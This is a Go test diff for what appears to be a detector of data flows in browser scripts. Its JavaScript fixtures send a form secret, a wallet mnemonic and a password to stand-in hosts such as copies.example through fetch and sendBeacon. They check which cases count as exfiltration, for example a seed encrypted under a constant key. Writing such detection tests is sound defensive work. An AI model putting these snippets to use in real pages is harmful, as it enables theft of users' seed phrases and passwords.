@@ -1,6 +1,9 @@
 package behavior
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func TestFlowsThroughShapes(t *testing.T) {
 	const page = "https://www.exchange.test/*"
@@ -26,5 +29,25 @@ func TestFlowsThroughShapes(t *testing.T) {
 		{"named control", Popup, `const form = document.querySelector("form"); form.onsubmit = () => fetch("https://collect.example/", {body: form.secret.value})`, []string{"form_data([name=secret]) > fetch > collect.example"}},
 	} {
 		t.Run(c.name, c.run)
+	}
+}
+
+// What only its user can read is not taken from him.
+func TestFlowsUnderAKeyThatIsTyped(t *testing.T) {
+	const script = `const enc = new TextEncoder();
+		async function key(p, salt) { const b = await crypto.subtle.importKey("raw", enc.encode(p), "PBKDF2", false, ["deriveKey"]); return crypto.subtle.deriveKey({name: "PBKDF2", salt, iterations: 6e5, hash: "SHA-256"}, b, {name: "AES-GCM", length: 256}, false, ["encrypt"]) }
+		document.querySelector("button").onclick = async () => { const w = document.querySelector("#mnemonic").value, p = document.querySelector("#pw").value, salt = crypto.getRandomValues(new Uint8Array(16));
+			const c = await crypto.subtle.encrypt({name: "AES-GCM", iv: salt}, await key(KEY, salt), enc.encode(w)); fetch("https://copies.example/", {method: "PUT", body: c}); REST }`
+	const seed = "seed_input(#mnemonic) > fetch > copies.example"
+	for _, c := range []struct {
+		name, key, rest string
+		flows           []string
+	}{
+		{"typed", "p", "", nil},
+		{"constant", `"k"`, "", []string{seed}},
+		{"sent along", "p", `navigator.sendBeacon("https://copies.example/p", p)`, []string{"form_data(#pw) > beacon > copies.example", seed}},
+		{"not all of it", "p", `fetch("https://copies.example/", {method: "POST", body: w})`, []string{seed}},
+	} {
+		flowCase{c.name, Popup, strings.NewReplacer("KEY", c.key, "REST", c.rest).Replace(script), c.flows}.run(t)
 	}
 }
